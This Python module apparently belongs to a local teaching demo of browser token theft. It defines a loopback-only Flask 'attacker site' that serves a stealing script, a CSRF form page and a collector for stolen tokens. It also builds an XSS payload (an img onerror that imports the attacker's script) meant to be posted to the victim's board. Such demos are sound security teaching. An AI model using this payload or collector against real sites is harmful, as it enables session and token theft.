"""`AttackerSite`: another site, with a script that steals and a form that forges. On loopback only.

A browser compares sites by host, without the port. So this server is reached as `localhost`, while
the victim's is `127.0.0.1`.
"""

from __future__ import annotations

import json
from dataclasses import dataclass, field
from urllib.parse import urlsplit, urlunsplit

from flask import Flask, Response, request

from client_widget.display import cut
from client_widget.protocol.jwt_by_hand import split
from client_widget.protocol.tokens import read_claims
from demo_server.serving.local_server import LocalServer

from .victim_site import page_named

#: Bytes of a report, and reports that are kept: the collector is open to every page.
MAX_REPORT, MAX_LOOT = 8_192, 100

_KINDS = {"at+jwt": "an access token", "rt+jwt": "a refresh token"}


@dataclass(frozen=True)
class Loot:
    """What the attacker's script found.

    Attributes:
        where (str): such as "localStorage.accessToken".
        shown (str): the find, masked: of a token only its length, its kind and its user.
        token (str): the token itself; "" if it is none. `repr` omits it.
    """

    where: str
    shown: str
    token: str = field(default="", repr=False)

    def __str__(self) -> str:
        return f"{self.where}: {self.shown}"


class AttackerSite(LocalServer):
    """The attacker's server.

    Args:
        victim_url (str): the server to which its form posts.

    Attributes:
        loot (list[Loot]): what the script has reported, in the order of its arrival.
    """

    def __init__(self, victim_url: str) -> None:
        self.loot: list[Loot] = []
        super().__init__(self._app(victim_url), kind="attacker site", name="attacker")

    @property
    def url(self) -> str:
        """The address of the server, on another site than the victim's."""
        parts = urlsplit(super().url)
        if parts.hostname != "127.0.0.1":  # in a browser tab there are no host names
            return super().url
        return urlunsplit(parts._replace(netloc=f"localhost:{parts.port}"))

    @property
    def prize_url(self) -> str:
        """The page with the form."""
        return f"{self.url}/prize"

    @property
    def message(self) -> str:
        """What mallory writes on the board: markup that loads her script."""
        return f"""Nice board! <img src="x" onerror="import('{self.url}/steal.js')">"""

    def receive(self, where: str, value: str) -> None:
        """Keep a find of the script."""
        if len(self.loot) < MAX_LOOT:
            self.loot.append(_loot(where, value))

    def _app(self, victim_url: str) -> Flask:
        app = Flask("attacker_site", static_folder=None)
        app.config["MAX_CONTENT_LENGTH"] = MAX_REPORT

        @app.get("/steal.js")
        def script() -> Response:
            answer = Response(page_named("steal.js"), content_type="text/javascript; charset=utf-8")
            answer.headers["Access-Control-Allow-Origin"] = "*"  # a module of another origin
            return answer

        @app.get("/prize")
        def prize() -> str:
            return page_named("prize.html").replace("{{ victim }}", victim_url)

        @app.post("/collect")
        def collect() -> tuple[str, int]:
            try:
                found = json.loads(request.get_data())
                self.receive(str(found["where"]), str(found["value"]))
            except (ValueError, KeyError, TypeError, RecursionError):
                return "", 400
            return "", 204

        return app


def _loot(where: str, value: str) -> Loot:
    where = cut(where, 60)
    if where == "a request with the cookie":
        return Loot(where, cut(value, 80))
    claims = read_claims(value)
    if not claims:
        return Loot(where, f"{len(value)} characters", value)
    header = split(value).header_text
    kind = next((words for typ, words in _KINDS.items() if f'"{typ}"' in header), "a token")
    return Loot(where, f"{kind} of {cut(claims.get('sub'), 40)}, {len(value)} characters", value)
